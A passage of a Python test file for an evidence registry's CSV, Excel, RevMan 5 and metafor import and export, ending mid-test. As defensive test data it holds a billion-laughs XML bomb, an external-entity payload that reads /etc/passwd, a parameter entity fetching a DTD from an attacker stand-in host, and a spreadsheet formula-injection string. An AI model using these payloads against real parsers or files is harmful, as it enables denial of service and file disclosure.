"""Import and export of the evidence registry: CSV directories, Excel, RevMan 5, metafor CSV.

Round trips go through the bundled data: export -> import into a fresh, empty registry -> the
same evidence version (tables) or the same numbers (RevMan). Imports are all or nothing: a bad
row anywhere leaves the database and its evidence version as they were, and the error names
file (or sheet), row and column. Hostile XML (billion laughs, external entities) is refused,
with defusedxml and with the plain-expat fallback.
"""

from __future__ import annotations

import collections
import csv
from pathlib import Path
from xml.etree import ElementTree as ET

import numpy as np
import pandas as pd
import pytest
from backends import BACKENDS, empty_database

from acuevidence import InputError
from acuevidence.evidence import interchange
from acuevidence.evidence._rm5_xml import (
    IV_MEASURE_NAMES,
    decode_study_id,
    encode_study_id,
    parse_timepoint,
    parse_xml,
    timepoint_name,
)
from acuevidence.evidence.interchange import (
    export_metafor_csv,
    export_tables,
    import_tables,
    read_table_rows,
)
from acuevidence.evidence.rm5 import export_rm5, import_rm5
from acuevidence.evidence.store import (
    Registry,
    bundled_csv_dir,
    evidence_version,
    read_csv_dir,
    write_csv_dir,
)

DATA = Path(__file__).parent / "data" / "rm5"
MINIMAL = DATA / "minimal_review.rm5"
WHO, WHY = "tester", "interchange test"



# --------------------------------------------------------------------------------------------
# Fixtures
# --------------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def bundled(tmp_path_factory) -> Registry:
    """The bundled data in a SQLite registry, shared by the read-only tests."""
    reg = Registry.build(tmp_path_factory.mktemp("bundled") / "evidence.sqlite")
    yield reg
    reg.close()


@pytest.fixture
def reg(tmp_path) -> Registry:
    """A registry of the bundled data that a test may write to."""
    r = Registry.build(tmp_path / "own.sqlite")
    yield r
    r.close()


@pytest.fixture
def empty_dir(tmp_path) -> Path:
    """Header-only CSV files: the smallest valid evidence base."""
    d = tmp_path / "empty_csv"
    write_csv_dir({}, d)
    return d


@pytest.fixture
def fresh(tmp_path, empty_dir) -> Registry:
    """An empty registry."""
    r = Registry.build(tmp_path / "fresh.sqlite", empty_dir)
    yield r
    r.close()


@pytest.fixture(params=BACKENDS)
def db_url(request, tmp_path) -> str:
    """A database on each backend: the transaction semantics differ (PostgreSQL aborts a
    transaction at the first failed statement)."""
    return empty_database(request.param, tmp_path / "any.sqlite")


@pytest.fixture
def any_reg(db_url) -> Registry:
    """The bundled data, on SQLite and on PostgreSQL."""
    r = Registry.build(db_url)
    yield r
    r.close()


@pytest.fixture
def any_fresh(db_url, empty_dir) -> Registry:
    """An empty registry, on SQLite and on PostgreSQL."""
    r = Registry.build(db_url, empty_dir)
    yield r
    r.close()


def _sorted_tables(reg: Registry) -> dict[str, list[dict]]:
    return {name: sorted(rows, key=lambda r: str(sorted(r.items())))
            for name, rows in reg.all_tables().items()}


def _valid_value(reg: Registry) -> dict:
    return dict(next(r for r in reg.rows("outcomes") if r["value_type"] == "final"
                     and r["sd"] is not None and r["n"] and r["status"] == "active"))


def _write_outcomes_csv(d: Path, rows: list[dict], columns: list[str]) -> Path:
    d.mkdir(parents=True, exist_ok=True)
    with (d / "outcomes.csv").open("w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=columns, lineterminator="\n")
        w.writeheader()
        for r in rows:
            w.writerow({c: "" if r.get(c) is None else r[c] for c in columns})
    return d


# --------------------------------------------------------------------------------------------
# CSV directory and Excel workbook
# --------------------------------------------------------------------------------------------
@pytest.mark.parametrize("target", ["csv_dir", "book.xlsx"])
def test_tables_round_trip_into_an_empty_registry(bundled, any_fresh, tmp_path, target):
    version = export_tables(bundled, tmp_path / target)
    assert version == bundled.version
    result = import_tables(any_fresh, tmp_path / target, who=WHO, why=WHY)
    assert result.version_before != result.version_after == bundled.version == any_fresh.version
    assert _sorted_tables(any_fresh) == _sorted_tables(bundled)
    n_rows = sum(len(r) for r in bundled.all_tables().values())
    assert result.n_written == sum(result.added.values()) == n_rows
    # Every row went through the audited write path.
    history = any_fresh.history()
    adds = history[history["action"] == "add"]
    assert len(adds) == n_rows
    assert set(adds["who"]) == {WHO} and set(adds["reason"]) == {WHY}


def test_csv_export_is_the_bundled_format(bundled, tmp_path):
    export_tables(bundled, tmp_path / "out")
    ours, theirs = read_csv_dir(tmp_path / "out"), read_csv_dir(bundled_csv_dir())
    assert evidence_version(ours) == evidence_version(theirs) == bundled.version
    for f in sorted(bundled_csv_dir().glob("*.csv")):
        with f.open(encoding="utf-8") as a, (tmp_path / "out" / f.name).open(encoding="utf-8") as b:
            assert a.readline() == b.readline(), f.name  # same header, same column order
    for name, rows in theirs.items():
        assert sorted(map(repr, ours[name])) == sorted(map(repr, rows)), name


def test_xlsx_keeps_every_bit_and_stores_formula_like_text_as_text(tmp_path):
    from openpyxl import load_workbook

    tables = {"sources": [
        {"source_id": "s1", "url": "https://example.org/a", "kind": "primary",
         "note": "=HYPERLINK(\"http://evil.invalid\")"}],
        "studies": [{"study_id": "t1", "label": "T 1", "condition": "other", "status": "active",
                     "n_sessions": 0.1 + 0.2, "sessions_per_week": 1 / 3,
                     "treatment_weeks": 123456789.12345679, "pmid": "0012345"}]}
    book = tmp_path / "b.xlsx"
    export_tables(tables, book)
    rows = {r.table: r.values for r in read_table_rows(book)}
    assert rows["studies"]["n_sessions"] == 0.1 + 0.2  # needs 17 significant digits
    assert rows["studies"]["sessions_per_week"] == 1 / 3
    assert rows["studies"]["treatment_weeks"] == 123456789.12345679
    assert rows["studies"]["pmid"] == "0012345"
    assert rows["sources"]["note"].startswith("=HYPERLINK")
    wb = load_workbook(book)
    assert wb["sources"]["D2"].data_type == "s"  # a string, never a formula
    about = {r[0]: r[1] for r in wb["_about"].iter_rows(values_only=True)}
    assert about["evidence_version"].startswith("ev-")


def test_bad_row_at_the_end_of_50_changes_nothing(any_reg, tmp_path):
    base = _valid_value(any_reg)
    cols = list(base)
    rows = [dict(base, value_id=f"{base['study_id']}:import{i:02d}", notes="batch")
            for i in range(50)]
    rows[-1]["events"], rows[-1]["total"] = 30, 20  # events above the total
    d = _write_outcomes_csv(tmp_path / "in", rows, cols)
    before, n_history = any_reg.version, len(any_reg.history())
    with pytest.raises(InputError) as err:
        import_tables(any_reg, d, who=WHO, why=WHY)
    msg = str(err.value)
    assert "outcomes.csv line 51" in msg and "column 'events'" in msg
    assert "exceed the total" in msg and "nothing was written" in msg
    assert err.value.rows == [49]
    assert any_reg.version == before and len(any_reg.history()) == n_history
    assert any_reg.get("outcomes", rows[0]["value_id"]) is None


def test_a_row_refused_by_the_write_path_rolls_back_the_rows_before_it(any_reg, tmp_path,
                                                                       monkeypatch):
    # Switch the up-front checks off, so that the 50th row reaches the audited write path after
    # 49 rows were written: the transaction must take them all back.
    monkeypatch.setattr(interchange, "row_problems", lambda *a, **k: [])
    base = _valid_value(any_reg)
    rows = [dict(base, value_id=f"{base['study_id']}:late{i:02d}") for i in range(50)]
    rows[-1]["outcome"] = "pian"  # not a vocabulary term
    d = _write_outcomes_csv(tmp_path / "in", rows, list(base))
    before, n_history = any_reg.version, len(any_reg.history())
    with pytest.raises(InputError, match=r"outcomes\.csv line 51.*pian.*Nothing was written"):
        import_tables(any_reg, d, who=WHO, why=WHY)
    assert any_reg.version == before and len(any_reg.history()) == n_history
    assert all(any_reg.get("outcomes", r["value_id"]) is None for r in rows)


def test_every_problem_is_listed_with_file_row_and_column(reg, tmp_path):
    base = _valid_value(reg)
    rows = [dict(base, value_id=f"{base['study_id']}:p{i}") for i in range(4)]
    rows[1]["mean"] = "about 5"
    rows[2]["arm_id"] = "no-such-study:arm"
    rows[3]["value_id"] = rows[0]["value_id"]
    d = _write_outcomes_csv(tmp_path / "in", rows, list(base))
    with pytest.raises(InputError) as err:
        import_tables(reg, d, who=WHO, why=WHY)
    msg = str(err.value)
    assert "outcomes.csv line 3, column 'mean'" in msg and "'about 5' is not a number" in msg
    # Types are checked first; fix those and the reference and duplicate problems come next.
    rows[1]["mean"] = 5.0
    _write_outcomes_csv(tmp_path / "in", rows, list(base))
    with pytest.raises(InputError) as err:
        import_tables(reg, d, who=WHO, why=WHY)
    msg = str(err.value)
    assert "outcomes.csv line 4, column 'arm_id'" in msg and "does not exist" in msg
    assert "outcomes.csv line 5, column 'value_id'" in msg and "duplicate value_id" in msg
    assert "2 problem(s)" in msg


def test_xlsx_errors_name_sheet_row_and_column(reg, tmp_path):
    base = _valid_value(reg)
    book = tmp_path / "in.xlsx"
    rows = [dict(base, value_id=f"{base['study_id']}:x{i}") for i in range(3)]
    rows[2]["sd"] = -1.0
    export_tables({"outcomes": rows}, book)
    before = reg.version
    with pytest.raises(InputError, match=r"sheet 'outcomes' row 4, column 'sd'.*negative"):
        import_tables(reg, book, who=WHO, why=WHY)
    assert reg.version == before


@pytest.mark.parametrize("setup, pattern", [
    (lambda d: (d / "outcome.csv").write_text("value_id\n"), r"unknown CSV file.*outcome\.csv"),
    (lambda d: (d / "arms.csv").write_text("arm_id,colour\nx:y,red\n"),
     r"arms\.csv: unknown column\(s\) \['colour'\]"),
    (lambda d: (d / "arms.csv").write_text("label\nfoo\n"), r"arms\.csv.*'arm_id' is missing"),
])
def test_malformed_csv_files_are_named(reg, tmp_path, setup, pattern):
    d = tmp_path / "in"
    d.mkdir()
    setup(d)
    with pytest.raises(InputError, match=pattern):
        import_tables(reg, d, who=WHO, why=WHY)


def test_add_refuses_existing_ids_and_upsert_updates_only_what_changed(any_reg, tmp_path):
    export_tables(any_reg, tmp_path / "out")
    before = any_reg.version
    with pytest.raises(InputError, match=r"already exists in the registry; use mode='upsert'"):
        import_tables(any_reg, tmp_path / "out", who=WHO, why=WHY)
    assert any_reg.version == before
    # Unchanged content: nothing written.
    same = import_tables(any_reg, tmp_path / "out", who=WHO, why=WHY, mode="upsert")
    assert same.n_written == 0 and any_reg.version == before
    # One mean changed in the file: one field update, audited.
    target = _valid_value(any_reg)
    path = tmp_path / "out" / "outcomes.csv"
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    frame.loc[frame["value_id"] == target["value_id"], "mean"] = repr(target["mean"] + 1.5)
    frame.to_csv(path, index=False, lineterminator="\n")
    result = import_tables(any_reg, tmp_path / "out", who=WHO, why="corrected mean", mode="upsert")
    assert result.updated["outcomes"] == 1 and result.n_written == 1
    assert any_reg.get("outcomes", target["value_id"])["mean"] == target["mean"] + 1.5
    change = any_reg.history("outcomes", target["value_id"]).iloc[-1]
    assert (change["field"], change["who"], change["reason"]) == ("mean", WHO, "corrected mean")


def test_import_needs_who_and_why_and_a_known_mode(reg, tmp_path):
    export_tables(reg, tmp_path / "out")
    with pytest.raises(InputError, match="who"):
        import_tables(reg, tmp_path / "out", who="", why=WHY)
    with pytest.raises(InputError, match="why"):
        import_tables(reg, tmp_path / "out", who=WHO, why=" ")
    with pytest.raises(InputError, match="mode"):
        import_tables(reg, tmp_path / "out", who=WHO, why=WHY, mode="replace")


# --------------------------------------------------------------------------------------------
# RevMan 5
# --------------------------------------------------------------------------------------------
def _numbers(reg: Registry) -> list[tuple]:
    """Arm-level numbers with their study, arm type, outcome and time point."""
    arms = {a["arm_id"]: a["arm_type"] for a in reg.rows("arms")}
    return [(v["study_id"], arms[v["arm_id"]], v["outcome"], v["value_type"], v["direction"],
             v["timepoint_weeks"], v["timepoint_label"], v["n"], v["mean"], v["sd"],
             v["events"], v["total"]) for v in reg.rows("outcomes", include_retracted=False)]


def test_rm5_round_trip_keeps_every_number(bundled, any_fresh, tmp_path):
    path = tmp_path / "review.rm5"
    exported = export_rm5(bundled, path, title="Acupuncture for pain")
    assert exported.n_data > 20 and exported.n_studies > 5
    imported = import_rm5(path, any_fresh, who=WHO, why=WHY, condition="other")
    assert imported.skipped == [] and imported.title == "Acupuncture for pain"
    got = _numbers(any_fresh)
    root = ET.parse(path).getroot()
    assert len(got) == 2 * (len(list(root.iter("DICH_DATA"))) + len(list(root.iter("CONT_DATA"))))
    # Every imported value is one of the registry's, number for number (identical floats). An
    # arm shared by two comparisons comes back once per comparison, as RevMan holds it.
    missing = set(got) - set(_numbers(bundled))
    assert not missing, sorted(missing, key=str)[:5]
    kinds = {k[3] for k in got}
    assert {"events", "final"} <= kinds
    # Contrast-only data came back through IV outcomes, acupuncture first (ratios via logs).
    orig = collections.defaultdict(list)
    for c in bundled.rows("contrasts", include_retracted=False):
        est = c["estimate"]
        if est is not None and bundled.get("arms", c["arm1_id"] or "") and \
                bundled.get("arms", c["arm1_id"])["arm_type"] != "acupuncture":
            est = 1 / est if c["measure"] in ("RR", "OR", "HR") else -est
        orig[(c["study_id"], c["outcome"], c["timepoint_weeks"], c["measure"])].append(est)
    ivs = any_fresh.rows("contrasts")
    assert ivs
    for c in ivs:
        assert any_fresh.get("arms", c["arm1_id"])["arm_type"] == "acupuncture"
        cands = orig[(c["study_id"], c["outcome"], c["timepoint_weeks"], c["measure"])]
        assert any(c["estimate"] == pytest.approx(e, rel=1e-12, abs=1e-12) for e in cands), c
    # Provenance: the file is the source; the locator names comparison / outcome / subgroup.
    src = any_fresh.rows("sources")[0]
    assert src["url"] == path.resolve().as_uri()
    v = any_fresh.rows("outcomes")[0]
    assert v["source_id"] == src["source_id"] and " versus " in v["locator"]
    assert v["locator"].count(" / ") >= 2


def test_rm5_export_writes_revman_elements(bundled, tmp_path):
    path = tmp_path / "all.rm5"
    export_rm5(bundled, path, title="All")
    root = ET.parse(path).getroot()
    assert root.tag == "COCHRANE_REVIEW" and root.get("REVMAN_VERSION") == "5"
    assert root.findtext("COVER_SHEET/TITLE") == "All"
    ids = {s.get("ID"): s for s in root.iterfind(
        "STUDIES_AND_REFERENCES/STUDIES/INCLUDED_STUDIES/STUDY")}
    for s in ids.values():
        assert s.get("NAME") and s.get("YEAR") is not None
    cmp = root.find("ANALYSES_AND_DATA/COMPARISON")
    assert cmp.get("ID") == "CMP-001" and cmp.findtext("NAME")
    found = set()
    for tag, attrs in (("DICH_DATA", ("EVENTS_1", "TOTAL_1", "EVENTS_2", "TOTAL_2")),
                       ("CONT_DATA", ("MEAN_1", "SD_1", "TOTAL_1", "MEAN_2", "SD_2", "TOTAL_2")),
                       ("IV_DATA", ("EFFECT_SIZE", "SE"))):
        for el in root.iter(tag):
            assert el.get("STUDY_ID") in ids
            for a in attrs:
                float(el.get(a))
            found.add(tag)
    assert found == {"DICH_DATA", "CONT_DATA", "IV_DATA"}
    for out in root.iter("IV_OUTCOME"):
        assert out.findtext("EFFECT_MEASURE") in IV_MEASURE_NAMES.values()
        assert out.get("LOG_DATA") in ("YES", "NO")
    for out in root.iter("CONT_OUTCOME"):
        assert out.get("EFFECT_MEASURE") in ("MD", "SMD")
        assert [c.tag for c in out][:5] == ["NAME", "GROUP_LABEL_1", "GROUP_LABEL_2",
                                            "GRAPH_LABEL_1", "GRAPH_LABEL_2"]
    # Selections: only these studies, only this outcome domain.
    export_rm5(bundled, tmp_path / "few.rm5", title="Few", studies=["berman2004", "haake2007"],
               outcomes=["pain"])
    few = import_rm5(tmp_path / "few.rm5", who=WHO, why=WHY, condition="other")
    assert {r["study_id"] for r in few.tables["studies"]} <= {"berman2004", "haake2007"}
    assert {r["outcome"] for r in few.tables["outcomes"] + few.tables["contrasts"]} == {"pain"}


def test_rm5_import_of_a_revman_file(fresh):
    before = fresh.version
    out = import_rm5(MINIMAL, fresh, who=WHO, why=WHY, condition="chronic_nonspecific_lbp",
                     confidence="high")
    assert out.title == "Needling for back pain (test review, Müller group)"
    assert fresh.version == out.result.version_after != before
    studies = {s["study_id"]: s for s in fresh.rows("studies")}
    assert set(studies) == {"alpha-2001", "beta-2005a", "gamma_2010"}
    assert studies["alpha-2001"]["title"] == "Alpha trial of needling"
    assert studies["beta-2005a"]["year"] == 2005 and studies["gamma_2010"]["year"] is None
    arms = {a["arm_id"]: a["arm_type"] for a in fresh.rows("arms")}
    assert arms["alpha-2001:acupuncture"] == "acupuncture"
    assert arms["alpha-2001:sham_acupuncture"] == "sham"
    values = {v["value_id"]: v for v in fresh.rows("outcomes")}
    resp = values["alpha-2001:acupuncture:rm5_c1_o1_s1"]
    assert (resp["events"], resp["total"], resp["value_type"]) == (30, 60, "events")
    assert (resp["outcome"], resp["direction"], resp["timepoint_weeks"]) == \
        ("response", "higher_better", 8.0)
    assert values["beta-2005a:acupuncture:rm5_c1_o1_s2"]["timepoint_weeks"] == 13.0  # 3 months
    pain = values["alpha-2001:sham_acupuncture:rm5_c1_o2"]
    assert (pain["mean"], pain["sd"], pain["n"], pain["scale"]) == (40.25, 20.0, 53,
                                                                    "VAS 0-100")
    assert (pain["outcome"], pain["direction"], pain["confidence"]) == \
        ("pain", "lower_better", "high")
    qol = values["beta-2005a:acupuncture:rm5_c1_o3"]
    assert (qol["value_type"], qol["direction"]) == ("change_from_baseline", "higher_better")
    (ae,) = fresh.rows("contrasts")
    assert (ae["measure"], ae["n1"], ae["n2"]) == ("RR", 40, 41)
    assert ae["estimate"] == pytest.approx(0.8)
    assert ae["ci_lb"] == pytest.approx(0.8 * np.exp(-1.959963984540054 * 0.25))
    # The placeholder (TOTAL 0) and the IPD outcome are reported, not imported.
    assert any("TOTAL_1=0" in s for s in out.skipped)
    assert any("IPD_OUTCOME" in s for s in out.skipped)
    assert not any(v["study_id"] == "gamma_2010" for v in values.values())
    history = fresh.history()
    assert set(history["who"]) == {WHO} and len(history) == sum(
        len(r) for r in fresh.all_tables().values())


def test_rm5_reimport_reuses_the_source_and_refuses_duplicates(any_fresh):
    import_rm5(MINIMAL, any_fresh, who=WHO, why=WHY, condition="other")
    before = any_fresh.version
    with pytest.raises(InputError, match="already exists"):
        import_rm5(MINIMAL, any_fresh, who=WHO, why=WHY, condition="other")
    assert any_fresh.version == before
    again = import_rm5(MINIMAL, any_fresh, who=WHO, why=WHY, condition="other", mode="upsert")
    assert again.result.n_written == 0 and any_fresh.version == before
    other = import_rm5(MINIMAL, any_fresh, who=WHO, why=WHY, condition="other", id_prefix="rev_")
    assert other.result.added["sources"] == 0 and other.result.added["studies"] == 3


def test_rm5_without_registry_only_reads(fresh):
    out = import_rm5(MINIMAL, who=WHO, why=WHY, condition="other")
    assert out.result is None and len(out.tables["outcomes"]) == 8
    assert fresh.rows("outcomes") == []


MALFORMED = [
    (lambda t: "this is not XML <", r"minimal_review\.rm5 line 1, column \d+: not well-formed",
     "xml"),
    (lambda t: t.replace("COCHRANE_REVIEW", "REVIEW"),
     r"root element is <REVIEW>, not <COCHRANE_REVIEW>", "REVIEW"),
    (lambda t: t.replace('STUDY_ID="STD-Beta-2005a" TOTAL_1="60"', 'TOTAL_1="60"'),
     r"line 45 <DICH_DATA>: attribute STUDY_ID is missing", "STUDY_ID"),
    (lambda t: t.replace('EVENTS_1="30"', 'EVENTS_1="thirty"'),
     (r"line 40 <DICH_DATA> STUDY_ID='STD-Alpha_x002d_2001': attribute EVENTS_1='thirty' is "
      r"not a number"), "EVENTS_1"),
    (lambda t: t.replace('EVENTS_2="14"', 'EVENTS_2="61"'),
     r"line 45 <DICH_DATA> STUDY_ID='STD-Beta-2005a': EVENTS_2=61 exceeds TOTAL_2=60",
     "EVENTS_2"),
    (lambda t: t.replace('SD_1="18.2" ', ""), r"line 54 <CONT_DATA>.*attribute SD_1 is missing",
     "SD_1"),
    (lambda t: t.replace('EVENTS_1="20"', 'EVENTS_1="2.5"'),
     r"EVENTS_1='2.5' must be a whole number", "EVENTS_1"),
    (lambda t: t.replace('STUDY_ID="STD-Beta-2005a" TOTAL_1="58"', 'STUDY_ID="STD-Nobody"'),
     r"line 62 <CONT_DATA>: STUDY_ID='STD-Nobody' is not among the INCLUDED_STUDIES",
     "STUDY_ID"),
    (lambda t: t.replace('SE="0.25"', 'SE="0"'), r"line 71 <IV_DATA>.*SE=0.0 must be positive",
     "SE"),
]


@pytest.mark.parametrize("edit, pattern, column", MALFORMED)
def test_malformed_rm5_is_refused_and_nothing_is_written(fresh, tmp_path, edit, pattern,
                                                         column):
    bad = tmp_path / MINIMAL.name
    bad.write_text(edit(MINIMAL.read_text(encoding="latin-1")), encoding="latin-1")
    before = fresh.version
    with pytest.raises(InputError, match=pattern) as err:
        import_rm5(bad, fresh, who=WHO, why=WHY, condition="other")
    assert err.value.column == column
    assert fresh.version == before and fresh.rows("studies") == []
    assert len(fresh.history()) == 0


def test_rm5_rows_the_registry_refuses_are_named(fresh, tmp_path):
    bad = tmp_path / MINIMAL.name
    bad.write_text(MINIMAL.read_text(encoding="latin-1").replace('SD_2="20.0"', 'SD_2="-2"'),
                   encoding="latin-1")
    with pytest.raises(InputError, match=r"line 54 <CONT_DATA>.*column 'sd'.*negative"):
        import_rm5(bad, fresh, who=WHO, why=WHY, condition="other")
    assert fresh.rows("studies") == []


def test_rm5_direction_must_be_known(fresh, tmp_path):
    bad = tmp_path / MINIMAL.name
    bad.write_text(MINIMAL.read_text(encoding="latin-1").replace(
        "<GRAPH_LABEL_1>Favours experimental</GRAPH_LABEL_1>", "<GRAPH_LABEL_1>Left</GRAPH_LABEL_1>"
        ).replace("<GRAPH_LABEL_2>Favours control</GRAPH_LABEL_2>",
                  "<GRAPH_LABEL_2>Right</GRAPH_LABEL_2>"), encoding="latin-1")
    with pytest.raises(InputError, match=r"<CONT_OUTCOME> 'Pain intensity'.*direction="):
        import_rm5(bad, fresh, who=WHO, why=WHY, condition="other")
    out = import_rm5(bad, fresh, who=WHO, why=WHY, condition="other",
                     direction={"Pain intensity": "lower_better"})
    assert out.result.added["outcomes"] == 8


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<COCHRANE_REVIEW><COVER_SHEET><TITLE>&lol9;</TITLE></COVER_SHEET></COCHRANE_REVIEW>
"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<COCHRANE_REVIEW><COVER_SHEET><TITLE>&secret;</TITLE></COVER_SHEET></COCHRANE_REVIEW>
"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<COCHRANE_REVIEW/>
"""
# defusedxml is a required dependency (pyproject.toml), so its parser is always tested.
PARSERS = [pytest.param(True, id="defusedxml"), pytest.param(False, id="expat-fallback")]


@pytest.mark.parametrize("use_defusedxml", PARSERS)
@pytest.mark.parametrize("doc", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY],
                         ids=["billion-laughs", "external-entity", "parameter-entity"])
def test_hostile_xml_is_refused(doc, use_defusedxml):
    with pytest.raises(InputError, match="refused: the file declares XML entities") as err:
        parse_xml(doc.encode(), "evil.rm5", use_defusedxml=use_defusedxml)
    assert err.value.column == "DOCTYPE"


@pytest.mark.parametrize("doc", [BILLION_LAUGHS, EXTERNAL_ENTITY])
def test_import_rm5_refuses_hostile_files(fresh, tmp_path, doc):
    path = tmp_path / "evil.rm5"
    path.write_text(doc)
    with pytest.raises(InputError, match="refused"):
        import_rm5(path, fresh, who=WHO, why=WHY, condition="other")
    assert fresh.rows("sources") == []


@pytest.mark.parametrize("use_defusedxml", PARSERS)
def test_parsers_agree_and_survive_deep_nesting(use_defusedxml):
    tree = parse_xml(MINIMAL.read_bytes(), "m.rm5", use_defusedxml=use_defusedxml)
    assert [s.attrib["ID"] for s in tree.iter("STUDY")] == [
        "STD-Alpha_x002d_2001", "STD-Beta-2005a", "STD-Gamma_x0020_2010"]
    assert next(tree.iter("CONT_DATA")).line == 54
    deep = b"<a>" * 50_000 + b"</a>" * 50_000
    assert sum(1 for _ in parse_xml(deep, "deep", use_defusedxml=use_defusedxml).iter("a")) \
        == 49_999


def test_study_ids_and_time_points_survive_the_format():
    for sid in ("berman2004", "beijing_pilot_ea_koa", "isis-2", "smith_2010a"):
        assert decode_study_id(encode_study_id(sid)) == sid
    assert encode_study_id("isis-2") == "STD-isis_x002d_2"
    for weeks, label in ((8.0, "week 8"), (8.0, None), (26.0, "4 months (AHRQ label)"),
                         (4.333333333333333, "1 month after treatment"), (None, "baseline"),
                         (13.0, "3 months"), (12.5, "end of treatment")):
        w, lab = parse_timepoint(timepoint_name(weeks, label))
        assert w == weeks and (lab == label or (label is None and lab == "8 weeks"))
    assert parse_timepoint("1 month after treatment") == (None, "1 month after treatment")


def test_rm5_from_analysis_sets_and_frames(bundled, fresh, tmp_path):
    cont = pd.DataFrame({"study_id": ["alpha", "beta"], "label": ["Alpha", "Beta"],
                         "m1i": [10.5, 12.0], "sd1i": [4.0, 5.5], "n1i": [30, 41],
                         "m2i": [14.0, 13.25], "sd2i": [4.5, 5.0], "n2i": [29, 40],
                         "yi": [-3.5, -1.25], "vi": [0.6, 0.7]})
    dich = pd.DataFrame({"study_id": ["alpha", "gamma"], "ai": [12, 5], "bi": [18, 20],
                         "ci": [6, 4], "di": [23, 21], "yi": [0.7, 0.2], "vi": [0.2, 0.4]})
    iv = pd.DataFrame({"study_id": ["delta"], "yi": [-0.25], "vi": [0.04], "measure": ["SMD"]})
    path = tmp_path / "sets.rm5"
    out = export_rm5({"Pain": cont, "Responders": dich, "Function": iv}, path, title="Sets")
    assert (out.n_outcomes, out.n_data, out.skipped) == (3, 5, [])
    root = ET.parse(path).getroot()
    assert next(root.iter("IV_OUTCOME")).findtext("EFFECT_MEASURE") == "Std. Mean Difference"
    assert next(root.iter("DICH_DATA")).get("TOTAL_1") == "30"
    res = import_rm5(path, fresh, who=WHO, why=WHY, condition="other",
                     direction="lower_better")
    vals = {(v["study_id"], v["arm_id"].split(":")[1]): v for v in fresh.rows("outcomes")}
    assert vals[("beta", "acupuncture")]["mean"] == 12.0
    assert vals[("beta", "control")]["sd"] == 5.0
    assert (vals[("gamma", "control")]["events"], vals[("gamma", "control")]["total"]) == (4, 25)
    (c,) = fresh.rows("contrasts")
    assert (c["measure"], c["estimate"]) == ("SMD", -0.25)
    assert res.result.added["studies"] == 4
    # An analysis set of the registry (its own column names) goes through as well.
    from acuevidence.evidence.analysis_sets import select

    s = select(bundled, condition="chronic_nonspecific_lbp", comparator="sham", outcome="pain")
    export_rm5(s, tmp_path / "set.rm5", title="Selection", registry=bundled)
    back = import_rm5(tmp_path / "set.rm5", who=WHO, why=WHY, condition="other")
    assert {r["study_id"] for r in back.tables["studies"]} == set(s.data["study_id"])


def test_export_rm5_rejects_what_it_cannot_write(tmp_path):
    with pytest.raises(InputError, match="title"):
        export_rm5(pd.DataFrame({"yi": [1.0], "vi": [1.0]}), tmp_path / "x.rm5", title=" ")
    with pytest.raises(InputError, match="needs columns"):
        export_rm5(pd.DataFrame({"x": [1]}), tmp_path / "x.rm5", title="T")


# --------------------------------------------------------------------------------------------
# metafor
# --------------------------------------------------------------------------------------------
def test_metafor_csv_has_metafor_names_and_exact_numbers(tmp_path):
    frame = pd.DataFrame({"study_id": ["a", "b"], "label": ["A 2001", "B 2002"],
                          "yi": [0.1 + 0.2, -1 / 3], "vi": [0.04, 1e-5],
                          "ai": [3, 4], "bi": [7, 6], "ci": [2, 5], "di": [8, 5],
                          "n1i": [10, 10], "n2i": [10, 10], "region": ["x", "y"]})
    out = export_metafor_csv(frame, tmp_path / "m.csv", extra_columns=["region"])
    back = pd.read_csv(tmp_path / "m.csv")
    assert list(back.columns) == ["study", "yi", "vi", "sei", "ai", "bi", "ci", "di", "n1i",
                                  "n2i", "study_id", "region"]
    assert back["yi"].tolist() == frame["yi"].tolist()  # bit for bit
    assert back["study"].tolist() == ["A 2001", "B 2002"]
    assert np.allclose(back["sei"] ** 2, back["vi"])
    assert out.shape[0] == 2


def test_metafor_csv_from_analysis_set_columns(tmp_path):
    class FakeSet:  # an object with .data as the analysis sets have, no metafor_frame
        data = pd.DataFrame({"study_id": ["a"], "label": ["A"], "yi": [-2.0], "vi": [0.5],
                             "mean_1": [10.0], "sd_1": [3.0], "n_1": [20], "mean_2": [12.0],
                             "sd_2": [3.5], "n_2": [21], "measure": ["MD"]})

    export_metafor_csv(FakeSet(), tmp_path / "m.csv")
    back = pd.read_csv(tmp_path / "m.csv")
    assert back.loc[0, ["m1i", "sd1i", "n1i", "m2i", "sd2i", "n2i"]].tolist() == \
        [10.0, 3.0, 20, 12.0, 3.5, 21]
    assert back.loc[0, "measure"] == "MD"


@pytest.mark.parametrize("frame, pattern", [
    (pd.DataFrame({"yi": [1.0]}), "missing \\['vi'\\]"),
    (pd.DataFrame({"yi": [1.0, 2.0], "vi": [0.1, 0.0]}),
     r"'vi' must be finite and positive; rows \[1\]"),
    (pd.DataFrame({"yi": [np.nan], "vi": [0.1]}), r"'yi' must be finite; rows \[0\]"),
])
def test_metafor_csv_refuses_bad_effect_sizes(tmp_path, frame, pattern):
